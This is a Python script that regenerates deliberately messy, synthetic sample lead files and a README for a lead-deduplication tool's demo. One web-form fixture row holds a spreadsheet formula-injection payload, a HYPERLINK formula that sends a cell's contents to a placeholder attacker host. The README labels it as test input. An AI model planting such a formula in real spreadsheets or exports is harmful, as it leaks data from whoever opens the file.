"""Re-create the bundled sample lead files in ``flows/samples/`` (what ``leadpipe demo`` ingests).

The files are small but messy on purpose, one per input kind of DOMAIN.md section 3: two
web-form exports (CSV and JSON lines), two trade-show lists (a German .xlsx with a title row,
a cp1252 ';' CSV with a single "Name" column) and a purchased list (UTF-16, TAB-delimited).
A cast of a dozen people appears in several files with small variations (nickname, accent
dropped, private e-mail, other phone format), so cross-file duplicates are known by
construction; ``CAST`` lists them. Everything else comes from ``generate_leads`` with fixed
seeds. ``flows/samples/README.md`` lists the deliberate messes of each file.

The output is byte-for-byte the same on every run (fixed seeds, fixed workbook timestamps).

Usage::

    python benchmarks/make_samples.py [--out flows/samples]
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import sys
from collections.abc import Iterable, Sequence
from datetime import datetime, timedelta
from pathlib import Path

import phonenumbers
import polars as pl
import xlsxwriter

if __package__ in (None, ""):  # run as a script: make the repository root importable
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from benchmarks.generate_leads import country_code, generate_leads  # noqa: E402

OUT_DIR = Path(__file__).resolve().parent.parent / "flows" / "samples"
MAX_BYTES = 300 * 1024

WEB_CSV = "web_form_2026-11.csv"
WEB_JSONL = "web_form_2026-11.jsonl"
BERLIN_XLSX = "trade_show_berlin_2026.xlsx"
BOSTON_CSV = "trade_show_boston_2026.csv"
BULK_TSV = "bulk_purchased_list.csv"

#: The samples draw names from the common lists only (``rare_names=0``), as the generator did
#: when they were made: the committed files, and the figures the docs and tests quote from them,
#: stay what this script writes.
SAMPLE_RARE_NAMES = 0.0

#: generate_leads arguments of the purchased list (its "Record ID" is generate_leads' record_id,
#: so ``generate_leads(**BULK_ARGS)`` gives the entity_id of every row that is not injected)
BULK_ARGS = {"n": 1_050, "dup_rate": 0.1, "noise": "hard", "seed": 2026, "rare_names": SAMPLE_RARE_NAMES}

#: People who appear in more than one file (cross-file duplicates). key -> canonical record.
CAST: dict[str, dict[str, str]] = {
    "anna": {"first": "Anna", "last": "Schmidt", "company": "Nordlicht Software GmbH",
             "email": "anna.schmidt@nordlicht-software.de", "phone": "+49 30 27581940",
             "title": "Head of Procurement", "city": "Berlin", "postal": "10117",
             "country": "DE"},
    "juergen": {"first": "Jürgen", "last": "Weiß", "company": "Weiß Maschinenbau AG",
                "email": "juergen.weiss@weiss-maschinenbau.de", "phone": "+49 89 21093476",
                "title": "Geschäftsführer", "city": "München", "postal": "80331",
                "country": "DE"},
    "bob": {"first": "Robert", "last": "O'Brien", "company": "Harborline Logistics Inc.",
            "email": "robert.obrien@harborline.com", "phone": "(617) 342-7781",
            "title": "VP of Operations", "city": "Boston", "postal": "02110", "country": "US"},
    "kate": {"first": "Katherine", "last": "Miller", "company": "Bluepeak Analytics LLC",
             "email": "kate.miller@bluepeak.io", "phone": "415.624.3390",
             "title": "Marketing Manager", "city": "San Francisco", "postal": "94105",
             "country": "US"},
    "renee": {"first": "Renée", "last": "Dubois", "company": "Lumen Conseil SAS",
              "email": "renee.dubois@lumen-conseil.fr", "phone": "01 42 68 53 00",
              "title": "Directrice Marketing", "city": "Paris", "postal": "75008",
              "country": "FR"},
    "thomas": {"first": "Thomas", "last": "Müller", "company": "Müller Logistik GmbH & Co. KG",
               "email": "t.mueller@mueller-logistik.de", "phone": "040 30768150",
               "title": "Leiter Einkauf", "city": "Hamburg", "postal": "20457", "country": "DE"},
    "sophie": {"first": "Sophie", "last": "Gruber", "company": "Alpenblick Software GmbH",
               "email": "sophie.gruber@alpenblick.at", "phone": "+43 1 5127340",
               "title": "CTO", "city": "Wien", "postal": "1010", "country": "AT"},
    "lukas": {"first": "Lukas", "last": "Brunner", "company": "Zürcher Präzision AG",
              "email": "lukas.brunner@zpraezision.ch", "phone": "+41 44 668 18 00",
              "title": "Head of IT", "city": "Zürich", "postal": "8001", "country": "CH"},
    "liz": {"first": "Elizabeth", "last": "Carter", "company": "Northwind Health Corp.",
            "email": "elizabeth.carter@northwindhealth.com", "phone": "(312) 466-2290",
            "title": "Director of Operations", "city": "Chicago", "postal": "60601",
            "country": "US"},
    "bill": {"first": "William", "last": "Turner", "company": "Turner & Cole LLP",
             "email": "bill.turner@turnercole.co.uk", "phone": "+44 20 7946 0958",
             "title": "Managing Director", "city": "London", "postal": "EC2M 4AA",
             "country": "GB"},
    "james": {"first": "James", "last": "Chen", "company": "Quartz Robotics Inc.",
              "email": "james.chen@quartzrobotics.com", "phone": "512-837-2204",
              "title": "CTO", "city": "Austin", "postal": "78701", "country": "US"},
    "claire": {"first": "Claire", "last": "Fontaine", "company": "Atelier Nova SARL",
               "email": "claire.fontaine@ateliernova.fr", "phone": "+33 4 72 41 18 90",
               "title": "Gérante", "city": "Lyon", "postal": "69002", "country": "FR"},
}

# First names the generator uses that are female, for the "Anrede" of the Berlin list.
_FEMALE = set("""
Mary Patricia Jennifer Linda Elizabeth Barbara Susan Jessica Sarah Karen Lisa Nancy Betty
Margaret Sandra Ashley Kimberly Emily Donna Michelle Carol Amanda Dorothy Melissa Deborah
Stephanie Rebecca Sharon Laura Cynthia Kathleen Amy Angela Shirley Anna Brenda Pamela Emma
Nicole Helen Samantha Katherine Christine Rachel Carolyn Janet Catherine Maria Heather Diane
Ruth Julie Olivia Joyce Virginia Victoria Kelly Lauren Christina Joan Evelyn Judith Megan Andrea
Cheryl Hannah Jacqueline Martha Gloria Teresa Sara Madison Frances Kathryn Janice Jean Abigail
Alice Sophia Grace Denise Amber Danielle Beverly Isabella Diana Natalie Brittany Charlotte
Alexandra Chloe Priya Mei Yuki Fatima Aisha Sofia Lucia Liz Beth Kate Katie Kathy Cathy Jen Jenny
Maggie Meg Peggy Sue Debbie Becky Jess Vicky Kim Steph Jackie Abby Pam Cindy Sandy Barb Nat
Sabine Petra Claudia Birgit Monika Ursula Karin Heike Kerstin Susanne Gabriele Katharina
Stefanie Franziska Julia Lena Lea Mia Sophie Jana Marie Johanna Greta Frieda Anna-Lena Doris
Renate Silke Tanja Melanie Steffi Franzi Kathi Susi Gabi Tina Nathalie Isabelle Sylvie
Françoise Sandrine Véronique Valérie Céline Stéphanie Aurélie Camille Émilie Élodie Claire
Chloé Léa Manon Inès Louise Jade Lina Élisabeth Hélène Anne Marie-Claire Marie-Hélène
Anne-Sophie Brigitte Monique Mathilde Margaux Océane Clémence Juliette Amélie Agnès Véro Babeth
""".split())


def _check_phones(rows: Iterable[tuple[str, str]]) -> None:
    """The cast's phones must be valid: the messes in the samples are deliberate, not typos."""
    for phone, country in rows:
        if not phonenumbers.is_valid_number(phonenumbers.parse(phone, country)):
            raise ValueError(f"invalid phone {phone!r} for {country}")


def _filler(n: int, seed: int, countries: Sequence[str], noise: str = "normal") -> list[dict]:
    """``n`` distinct generated people as dicts of the generator's export columns."""
    return generate_leads(n, dup_rate=0.0, noise=noise, seed=seed, countries=countries,
                          rare_names=SAMPLE_RARE_NAMES).to_dicts()


def _csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], delimiter: str = ",",
              blank_line_after: int | None = None) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    for i, row in enumerate(rows):
        writer.writerow(["" if v is None else v for v in row])
        if i == blank_line_after:
            buf.write("\r\n")  # a completely blank line, as hand-edited exports have
    return buf.getvalue()


def _timestamps(rng: random.Random, n: int, start: datetime, days: int) -> list[datetime]:
    return sorted(start + timedelta(seconds=rng.randrange(days * 86_400)) for _ in range(n))


# --- web form: CSV ------------------------------------------------------------------------------

WEB_HEADER = ("Submitted At", "First Name", "Last Name", "Email Address", "Phone Number",
              "Company Name", "Job Title", "Country", "Form", "utm_campaign", "Request a demo",
              "Message", "Consent")
_FORMS = ("Demo Request", "Contact Us", "Whitepaper: Dedup 101", "Webinar Registration")
_CAMPAIGNS = ("q4_pricing", "brand_search", "linkedin_abm", "newsletter_nov", "")
_MESSAGES = ("", "", "", "", "Please send pricing.", "Do you integrate with Salesforce?",
             "Interested in the enterprise plan", "Call me after 3pm EST", "")


def web_form_csv() -> str:
    rng = random.Random(2611)
    people = _filler(41, seed=2611, countries=("US", "GB", "DE", "FR"))
    cast = CAST
    rows: list[list[object]] = []

    def add(first, last, email, phone, company, title, country, **kw):
        rows.append([None, first, last, email, phone, company, title, country,
                     kw.get("form", rng.choice(_FORMS)), kw.get("campaign", rng.choice(_CAMPAIGNS)),
                     kw.get("demo", rng.choice(("Yes", "No", "No", ""))),
                     kw.get("message", rng.choice(_MESSAGES)),
                     kw.get("consent", rng.choice(("Yes", "Yes", "yes", "TRUE", "No")))])

    for p in people:
        add(p["First Name"], p["Last Name"], p["Email"], p["Phone"], p["Company"], p["Title"],
            p["Country"])
    # the cast, as they typed themselves into the form
    c = cast["anna"]
    add("Anna", "Schmidt", c["email"], "030 27581940", c["company"], c["title"], "Germany")
    c = cast["juergen"]
    add("JÜRGEN", "WEISS", "Juergen.Weiss@weiss-maschinenbau.de", "+49 (0)89 21093476",
        "Weiss Maschinenbau", c["title"], "Deutschland")
    c = cast["bob"]
    add("Robert", "O'Brien", c["email"], c["phone"], c["company"], c["title"], "United States",
        form="Demo Request", demo="Yes", message="")
    c = cast["kate"]
    add("Katherine", "Miller", " Kate.Miller@Bluepeak.IO ", c["phone"], c["company"], c["title"],
        "USA")
    c = cast["renee"]
    add("Renée", "Dubois", c["email"], "+33 1 42 68 53 00", "Lumen Conseil", c["title"], "France")
    c = cast["thomas"]
    add("Thomas", "Mueller", "T.Mueller@Mueller-Logistik.de", c["phone"], c["company"],
        "Einkauf", "DE")
    c = cast["lukas"]
    add("Lukas", "Brunner", c["email"], "044 668 18 00", c["company"], c["title"], "Switzerland")
    c = cast["liz"]
    add("Elizabeth", "Carter", c["email"], "312-466-2290", "Northwind Health", c["title"], "US")
    c = cast["bill"]
    add("Bill", "Turner", c["email"], "020 7946 0958", c["company"], c["title"], "UK")
    c = cast["james"]
    add("James", "Chen", "JAMES.CHEN@QUARTZROBOTICS.COM", c["phone"], c["company"], c["title"],
        "US")
    # deliberate messes
    add("Maria", None, "maria.lopez@cedarbrook.com", "(213) 742-1180", "Cedarbrook Media",
        "Content Lead", "US")  # no last name
    add("John", "Doe", "john.doe@", "+1 646 821 3307", "Doe Consulting", "Owner", "US")
    add("Priya", "Shah", None, None, "Tidewater Ltd", "Analyst", "UK",
        message="No phone please, reply by post.")  # no e-mail and no phone
    add("Hannah", "Becker", "hannah.becker@gmx.de", "0171 4423981", None, "Freelancer",
        "Germany")  # empty company
    add("Mark", "Evans", "mark.evans@brightloop.co.uk", "12345", "Brightloop Ltd", "IT Manager",
        "GB")  # a phone that is not a number
    add("Eve", "Mallory", "eve.mallory@example.org", "+1 (202) 464-0143", "Acme Widgets Inc.",
        "Buyer", "US", message='=HYPERLINK("http://attacker.example/?d="&A1,"Click for pricing")')
    add("Oliver", "Grant", "oliver.grant@summitpath.com", "+44 161 496 0321", "Summitpath Ltd",
        "Head of Data", "United Kingdom",
        message="Hi,\nwe need a demo for 25 seats, ideally before Dec 15, thanks.")
    add("Nina", "Kowalski", "@nina_k", "0176 55512093", "Kowalski Design", "Founder", "DE",
        message="@sales please call back")  # cells starting with '@'

    order = list(range(len(rows)))
    rng.shuffle(order)
    rows = [rows[i] for i in order]
    # Robert O'Brien submits the demo form a second time, five days later
    bob_first = next(i for i, r in enumerate(rows) if r[2] == "O'Brien")
    second = list(rows[bob_first])
    second[4] = "617-342-7781"
    second[11] = "Second request - nobody called me back."
    rows.insert(min(len(rows), bob_first + 20), second)
    stamps = _timestamps(rng, len(rows), datetime(2026, 11, 1, 7, 0), 29)
    for row, at in zip(rows, stamps, strict=True):
        row[0] = at.strftime("%Y-%m-%d %H:%M:%S")
    return _csv_text(WEB_HEADER, rows, blank_line_after=27)


# --- web form: JSON lines -----------------------------------------------------------------------

JSONL_BROKEN_LINE = 18  # 1-based line number of the line that is not valid JSON


def web_form_jsonl() -> str:
    rng = random.Random(2612)
    people = _filler(20, seed=2612, countries=("US", "GB", "DE", "FR"))
    sources = ("linkedin", "google", "newsletter", "direct", "g2")
    pages = ("/pricing", "/demo", "/blog/lead-dedup", "/", "/integrations/salesforce")
    records: list[dict[str, object]] = []

    def add(given, surname, email, phone, org, website, country, **extra):
        record = {"given_name": given, "surname": surname, "email": email, "phone": phone,
                  "organisation": org, "website": website, "country": country,
                  "submitted_at": None,
                  "extra": {"utm_source": rng.choice(sources), "page": rng.choice(pages),
                            **extra}}
        records.append(record)
        return record

    for p in people:
        add(p["First Name"], p["Last Name"], p["Email"], p["Phone"], p["Company"], p["Website"],
            p["Country"])
    c = CAST
    add("Bob", "O'Brien", "Robert.OBrien@harborline.com", "+16173427781",
        "Harborline Logistics", "https://www.harborline.com", "US")
    add("Kate", "Miller", "KATE.MILLER@BLUEPEAK.IO", "+1 415 624 3390", "Bluepeak Analytics",
        "bluepeak.io", "US")
    add("Renee", "Dubois", c["renee"]["email"], "+33142685300", "Lumen Conseil S.A.S.",
        "https://lumen-conseil.fr", "FR")
    add("Jurgen", "Weiss", c["juergen"]["email"], "089/21093476", "Weiss Maschinenbau AG",
        None, "DE")
    add("Sophie", "Gruber", c["sophie"]["email"], "01 5127340", c["sophie"]["company"],
        "www.alpenblick.at", "AT")
    add("Liz", "Carter", "liz.carter@gmail.com", "(312) 466-2290", "Northwind Health Corp",
        None, "US")  # private address: matches on name + phone + company only
    add("James", "Chen", c["james"]["email"], None, "Quartz Robotics",
        "http://quartzrobotics.com/", "US")
    # a phone sent as a JSON number, and a record without a website key at all
    r = add("Felix", "Wagner", "felix.wagner@nordwerk.de", 4915112345678, "Nordwerk GmbH",
            None, "DE")
    r.pop("website")

    rng.shuffle(records)
    stamps = _timestamps(rng, len(records), datetime(2026, 11, 1, 6, 0), 29)
    lines = []
    for record, at in zip(records, stamps, strict=True):
        record["submitted_at"] = at.strftime("%Y-%m-%dT%H:%M:%SZ")
        lines.append(json.dumps(record, ensure_ascii=False))
    # the first record with an accent is written with \\u escapes: valid JSON that looks different
    escaped = next(i for i, line in enumerate(lines) if not line.isascii())
    lines[escaped] = json.dumps(json.loads(lines[escaped]), ensure_ascii=True)
    # a line cut off mid-write: not valid JSON
    lines.insert(JSONL_BROKEN_LINE - 1,
                 '{"given_name": "Tom", "surname": "Baker", "email": "tom.baker@cobalt')
    return "\n".join(lines) + "\n"


# --- trade show Berlin: xlsx --------------------------------------------------------------------

BERLIN_HEADER = ("Anrede", "Vorname", "Nachname", "Firma", "E-Mail", "Telefon", "Position",
                 "PLZ", "Ort", "Land", "Notizen")
_LAND = {"DE": "Deutschland", "AT": "Österreich", "CH": "Schweiz", "FR": "Frankreich"}
_NOTES = ("", "", "Interesse an Demo", "Rückruf KW 48", "Visitenkarte erhalten",
          "Budget 2027 geplant", "Bitte Angebot per E-Mail", "kein Interesse", "")


def _digits(phone: str, country: str) -> int:
    """The phone as Excel stores a typed number: E.164 digits without '+' (493012345678)."""
    parsed = phonenumbers.parse(phone, country)
    return int(f"{parsed.country_code}{parsed.national_number}")


def berlin_rows() -> list[list[object] | None]:
    """Rows of the Berlin list; None is an empty row inside the data."""
    rng = random.Random(2613)
    people = _filler(31, seed=2613, countries={"DE": 3, "AT": 1, "CH": 1})
    rows: list[list[object] | None] = []
    for i, p in enumerate(people):
        code = country_code(p["Country"])
        phone: object = p["Phone"]
        if phone and i % 3 == 0:  # typed into Excel as a number
            phone = _digits(phone, code)
        elif phone and i % 7 == 1:  # a national number typed as a number: leading 0 lost
            phone = int(str(phonenumbers.parse(phone, code).national_number))
        postal: object = p["Postal Code"]
        if postal and postal.isdigit() and i % 2 == 0:
            postal = int(postal)  # numeric PLZ cell (Leipzig/Dresden lose their leading 0)
        salutation = "Frau" if p["First Name"] in _FEMALE else "Herr"
        if i % 9 == 4:
            salutation += " Dr."
        rows.append([salutation, p["First Name"], p["Last Name"], p["Company"], p["Email"], phone,
                     p["Title"], postal, p["City"], _LAND[code], rng.choice(_NOTES)])
    c = CAST
    rows += [
        ["Frau Dr.", "Anna Maria", "Schmidt", c["anna"]["company"], c["anna"]["email"],
         _digits(c["anna"]["phone"], "DE"), "Leitung Einkauf", 10117, "Berlin", "Deutschland",
         "Demo vereinbart 03.12."],
        ["Herr", "Jürgen", "Weiß", c["juergen"]["company"], "j.weiss@weiss-maschinenbau.de",
         "089 21093476", c["juergen"]["title"], 80331, "München", "Deutschland", ""],
        ["Herr", "Thomas", "Müller", "Müller Logistik", c["thomas"]["email"],
         _digits(c["thomas"]["phone"], "DE"), c["thomas"]["title"], 20457, "Hamburg",
         "Deutschland", "Rückruf KW 48"],
        ["Frau", "Sophie", "Gruber", "Alpenblick Software", c["sophie"]["email"],
         c["sophie"]["phone"], "CTO", 1010, "Wien", "Österreich", "kennt uns vom Webinar"],
        ["Herr", "Lukas", "Brunner", "Zürcher Präzision", c["lukas"]["email"],
         _digits(c["lukas"]["phone"], "CH"), "Leiter IT", 8001, "Zürich", "Schweiz", ""],
        ["Frau", "Claire", "Fontaine", c["claire"]["company"], c["claire"]["email"],
         c["claire"]["phone"], c["claire"]["title"], "69002", "Lyon", "Frankreich",
         "spricht nur Französisch/Englisch"],
        ["Herr", "Karl-Heinz", "Großmann", "Großmann Anlagenbau GmbH",
         "kh.grossmann@grossmann-anlagenbau.de", 3514128870, "Inhaber", 1067, "Dresden",
         "Deutschland", "PLZ 01067"],  # phone and PLZ typed as numbers: both lost their 0
    ]
    order = list(range(len(rows)))
    rng.shuffle(order)
    rows = [rows[i] for i in order]
    rows.insert(12, None)
    rows.insert(26, None)
    return rows


def write_berlin_xlsx(path: Path) -> None:
    workbook = xlsxwriter.Workbook(str(path))
    # fixed document timestamp: the same bytes on every run
    workbook.set_properties({"title": "Besucherliste", "author": "Messe-Team",
                             "created": datetime(2026, 11, 20, 9, 0, 0)})
    sheet = workbook.add_worksheet("Besucher")
    title = workbook.add_format({"bold": True, "font_size": 14})
    head = workbook.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
    sheet.merge_range(0, 0, 0, len(BERLIN_HEADER) - 1,
                      "Messe Berlin 2026 – Besucherliste", title)
    sheet.write_row(2, 0, BERLIN_HEADER, head)
    for r, row in enumerate(berlin_rows(), start=3):
        if row is None:
            continue
        for col, value in enumerate(row):
            if value is None or value == "":
                continue
            if isinstance(value, int):
                sheet.write_number(r, col, value)
            else:
                sheet.write_string(r, col, value)
    sheet.set_column(0, 0, 9)
    sheet.set_column(1, 6, 22)
    sheet.set_column(7, 7, 8)
    sheet.set_column(8, 10, 18)
    workbook.close()


# --- trade show Boston: cp1252, ';' -------------------------------------------------------------

BOSTON_HEADER = ("Name", "Company", "E-mail", "Phone", "Title", "Country")
_BOSTON_COUNTRY = {"US": ("USA", "United States", "USA"), "GB": ("U.K.",), "CA": ("Canada",),
                   "DE": ("Germany",), "FR": ("France",)}


def _boston_name(rng: random.Random, first: str, last: str) -> str:
    female = first in _FEMALE
    style = rng.random()
    if style < 0.45:
        return f"{last}, {first}"
    if style < 0.6:
        return f"{rng.choice(('Ms.' if female else 'Mr.', 'Dr.'))} {first} {last}"
    if style < 0.68:
        suffixes = ("PhD", "MBA", "CPA") if female else ("Jr.", "III", "PhD", "MBA")
        return f"{first} {last} {rng.choice(suffixes)}"
    return f"{first} {last}"


def boston_lines() -> list[str]:
    rng = random.Random(2614)
    people = _filler(40, seed=2614, countries={"US": 4, "GB": 1, "CA": 1})
    rows: list[list[str]] = []
    for p in people:
        code = country_code(p["Country"])
        row = [_boston_name(rng, p["First Name"] or "", p["Last Name"] or ""), p["Company"] or "",
               p["Email"] or "", p["Phone"] or "", p["Title"] or "",
               rng.choice(_BOSTON_COUNTRY[code])]
        try:  # a badge scanner export in cp1252 cannot hold every name: skip those people
            ";".join(row).encode("cp1252")
        except UnicodeEncodeError:
            continue
        rows.append(row)
    rows = rows[:30]
    c = CAST
    rows += [
        ["Dr. Anna Maria Schmidt", c["anna"]["company"], c["anna"]["email"], "+49 30 27581940",
         "Head of Procurement", "Germany"],
        ["O’Brien, Bob", "Harborline Logistics", "bob.obrien@harborline.com", "617 342 7781",
         "VP – Operations", "USA"],
        ["Dubois, Renée", "Lumen Conseil S.A.S.", c["renee"]["email"], "+33 1 42 68 53 00",
         "Directrice “Marketing”", "France"],
        ["Turner, William", "Turner & Cole", c["bill"]["email"], "+44 (0)20 7946 0958",
         "Managing Director", "U.K."],
        ["Mr. James Chen", "Quartz Robotics", c["james"]["email"], "(512) 837-2204", "CTO",
         "United States"],
        ["Miller, Kate", "Bluepeak Analytics", "kmiller@bluepeak.io", "415-624-3390",
         "Marketing Mgr.", "USA"],
        ["Prof. Dr. Hans-Peter Müller", "Müller & Söhne KG", "hp.mueller@mueller-soehne.de",
         "+49 711 2209415", "Geschäftsführer", "Germany"],
        ["Zoë Šulc", "Café Olé Imports LLC", "zoe@cafeole.com", "(305) 417-2290",
         "Owner – Purchasing", "USA"],
    ]
    rng.shuffle(rows)
    lines = [";".join(row) for row in rows]
    # a company with an unquoted ';' (one field too many) and a row cut short
    lines.insert(11, ";".join(["Hughes, Ellen", "Smith; Jones & Partners LLC",
                               "ellen.hughes@smithjones.com", "(617) 227-4410", "Partner",
                               "USA"]))
    lines.insert(23, "Nakamura, Ken;Bayview Systems Inc.;ken.nakamura@bayviewsys.com")
    return [";".join(BOSTON_HEADER), *lines]


# --- purchased list: UTF-16 LE with BOM, TAB-delimited -------------------------------------------

BULK_COLUMNS = {
    "record_id": "Record ID", "First Name": "First Name", "Last Name": "Last Name",
    "Email": "Email", "Phone": "Phone", "Company": "Company", "Title": "Title", "City": "City",
    "Country": "Country", "Industry": "Industry", "Employees": "Employees",
    "Lead Source": "Lead Source",
}


def bulk_tsv() -> str:
    frame = generate_leads(**BULK_ARGS)
    frame = frame.with_columns(pl.lit("Purchased List").alias("Lead Source"))
    frame = frame.select(list(BULK_COLUMNS)).rename(BULK_COLUMNS)
    bad = pl.DataFrame([
        {"Record ID": "X0000001", "First Name": "Daniel", "Last Name": "Hoffman",
         "Email": "daniel.hoffman@gmail.com", "Phone": "(646) 412-9087", "Company": None,
         "Title": "Consultant", "City": "New York", "Country": "US", "Industry": "Consulting",
         "Employees": None},  # no company
        {"Record ID": "X0000002", "First Name": "Sandra", "Last Name": None,
         "Email": "sandra@stonebridge-capital.com", "Phone": "+44 20 3318 4400",
         "Company": "Stonebridge Capital Ltd", "Title": "CFO", "City": "London",
         "Country": "GB", "Industry": "Finance", "Employees": "85"},  # no last name
        {"Record ID": "X0000003", "First Name": "Test", "Last Name": "Test",
         "Email": "test@test", "Phone": "0000000000", "Company": "Test",
         "Title": "test", "City": None, "Country": "US", "Industry": None,
         "Employees": None},  # a junk row
        {"Record ID": "X0000004", "First Name": "Kevin", "Last Name": "Lang",
         "Email": "n/a", "Phone": None, "Company": "Lang Elektronik GmbH",
         "Title": "Einkauf", "City": "Stuttgart", "Country": "DE", "Industry": "Electronics",
         "Employees": "40"},  # junk e-mail
        {"Record ID": "X0000005", "First Name": "Grace", "Last Name": "Whitfield",
         "Email": "grace.whitfield@@harbourview.co.uk", "Phone": "0161 496 0755",
         "Company": "Harbourview Ltd", "Title": "Operations Manager", "City": "Manchester",
         "Country": "GB", "Industry": "Shipping", "Employees": "230"},  # two @
        {"Record ID": "X0000006", "First Name": "Marc", "Last Name": "Lefèvre",
         "Email": "marc.lefevre@orionlogistique.fr", "Phone": "04 91 55 20 10",
         "Company": "Orion Logistique SAS", "Title": "Directeur des opérations\nSite de Marseille",
         "City": "Marseille", "Country": "FR", "Industry": "Transportation",
         "Employees": "120"},  # a quoted newline inside the title
    ], schema={name: pl.String for name in BULK_COLUMNS.values() if name != "Lead Source"}
    ).with_columns(pl.lit("Purchased List").alias("Lead Source"))
    rows = frame.to_dicts()
    for at, record in zip((57, 233, 480, 611, 802, 955), bad.to_dicts(), strict=True):
        rows.insert(at, record)
    out = pl.DataFrame(rows, schema=frame.schema)
    return out.write_csv(separator="\t", line_terminator="\r\n")


# --- the README ---------------------------------------------------------------------------------

README_HEAD = """# Sample lead files

Small, deliberately messy lead files that `leadpipe demo` ingests. Re-create them with
`python benchmarks/make_samples.py` (deterministic: same bytes every run). A cast of twelve
people (`CAST` in `benchmarks/make_samples.py`) appears in several files with small variations,
so cross-file duplicates are known; the other rows come from `benchmarks/generate_leads.py`
with fixed seeds.

| file | kind | what is messy about it |
|---|---|---|
"""

# one table line per file: (file, kind, messes); {placeholders} are filled in by write_all
README_ROWS = (
    (WEB_CSV, "web form, {web_rows} rows",
     "UTF-8 with BOM, CRLF; e-mails in mixed case with spaces (` Kate.Miller@Bluepeak.IO `); "
     "phones in many formats and one that is not a number (`12345`); a quoted message with an "
     "embedded newline and commas; a message starting with `=HYPERLINK(` (formula injection) "
     "and cells starting with `@`; a row without last name (Maria); an invalid e-mail "
     "`john.doe@`; a row with neither e-mail nor phone (Priya Shah); a completely blank line; "
     "Robert O'Brien submitting twice (different timestamps and phone format); a row with an "
     "empty company (Hannah Becker); countries as names and codes (`United States`, `USA`, "
     "`DE`, `Deutschland`)."),
    (WEB_JSONL, "web form, {jsonl_lines} lines",
     "JSON lines with `given_name`, `surname`, `email`, `phone`, `organisation`, `website`, "
     "`country`, `submitted_at` and a nested `extra` object (`utm_source`, `page`); line "
     "{broken} is cut off (not valid JSON); one phone sent as a JSON number (Felix Wagner), "
     "some `null` phones and websites, one record without a `website` key, line {escaped} "
     "written with `\\u` escapes; `submitted_at` in ISO 8601 with `Z` (the CSV has no zone); "
     "cast members with variations: Bob/Robert O'Brien, KATE.MILLER@ upper case, Renee "
     "without accent, Jurgen Weiss, Liz Carter with a private gmail address."),
    (BERLIN_XLSX, "trade show, {berlin_rows} rows",
     "German headers on row 3 under a merged title row (\"Messe Berlin 2026 – "
     "Besucherliste\") and an empty row 2; phones partly stored as numbers (`493027581940`, "
     "and national numbers that lost their leading 0 like `3514128870`); PLZ partly numbers "
     "(Dresden `1067` lost its 0); two empty rows inside the data; umlauts and ß; `GmbH`/"
     "`AG`/`GmbH & Co. KG`; `Land` is `Deutschland`/`Österreich`/`Schweiz`/`Frankreich`; "
     "\"Anna Maria\" as first name of Frau Dr. Schmidt."),
    (BOSTON_CSV, "trade show, {boston_rows} rows",
     "cp1252 (`’`, `“ ”`, `–`, `Š` differ from latin-1; `é`, `ü`, `ë` too), `;`-delimited, "
     "no BOM; one `Name` column as `Last, First` or `Dr. Anna Maria Schmidt` / `Prof. Dr. "
     "Hans-Peter Müller` / `Jr.`/`PhD` forms; `Country` as `USA`, `United States`, `U.K.`; a "
     "row with one field too many (unquoted `;` in the company) and a row with only three "
     "fields."),
    (BULK_TSV, "purchased list, {bulk_rows} rows",
     "Excel \"Unicode text\": UTF-16 LE with BOM, TAB-delimited, CRLF, despite the `.csv` "
     "name; `generate_leads(n=1050, dup_rate=0.1, noise=\"hard\", seed=2026, rare_names=0)` with `Lead "
     "Source` = `Purchased List` (its `Record ID` is the generator's `record_id`, so the "
     "generator gives the true `entity_id` of every row; about 10 % duplicates with typos, "
     "nicknames, e-mail and company variants, and look-alike colleagues sharing switchboard "
     "numbers); six injected bad rows (`X000000n` ids): no company, no last name, a "
     "`test@test` junk row, e-mail `n/a`, e-mail with `@@`, and a title with a quoted "
     "newline. 1,050 generated rows instead of about 1,500: in UTF-16 that is what fits "
     "under 300 KB."),
)


def write_all(out_dir: Path) -> dict[str, int]:
    """Write every sample into ``out_dir``; returns file name -> size in bytes."""
    _check_phones((p["phone"], p["country"]) for p in CAST.values())
    out_dir.mkdir(parents=True, exist_ok=True)
    web = web_form_csv()
    (out_dir / WEB_CSV).write_bytes(web.encode("utf-8-sig"))
    jsonl = web_form_jsonl()
    (out_dir / WEB_JSONL).write_bytes(jsonl.encode("utf-8"))
    write_berlin_xlsx(out_dir / BERLIN_XLSX)
    boston = boston_lines()
    (out_dir / BOSTON_CSV).write_bytes(("\r\n".join(boston) + "\r\n").encode("cp1252"))
    bulk = bulk_tsv()
    (out_dir / BULK_TSV).write_bytes(b"\xff\xfe" + bulk.encode("utf-16-le"))

    berlin = berlin_rows()
    counts = dict(
        web_rows=len(list(csv.reader(io.StringIO(web)))) - 2,  # minus header and blank line
        jsonl_lines=len(jsonl.splitlines()),
        broken=JSONL_BROKEN_LINE,
        escaped=next(i for i, line in enumerate(jsonl.splitlines(), 1) if "\\u" in line),
        berlin_rows=sum(row is not None for row in berlin),
        boston_rows=len(boston) - 1,
        bulk_rows=len(bulk.splitlines()) - 2,  # minus header and the line inside a quoted field
    )
    readme = README_HEAD + "".join(
        f"| `{name}` | {kind.format(**counts)} | {messes.format(**counts)} |\n"
        for name, kind, messes in README_ROWS
    )
    (out_dir / "README.md").write_text(readme, encoding="utf-8")
    sizes = {p.name: p.stat().st_size for p in sorted(out_dir.iterdir()) if p.is_file()}
    too_big = {name: size for name, size in sizes.items() if size > MAX_BYTES}
    if too_big:
        raise ValueError(f"sample files over {MAX_BYTES} bytes: {too_big}")
    return sizes


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Re-create the sample lead files.")
    parser.add_argument("--out", type=Path, default=OUT_DIR)
    args = parser.parse_args(argv)
    for name, size in write_all(args.out).items():
        print(f"{size:>9,} B  {args.out / name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
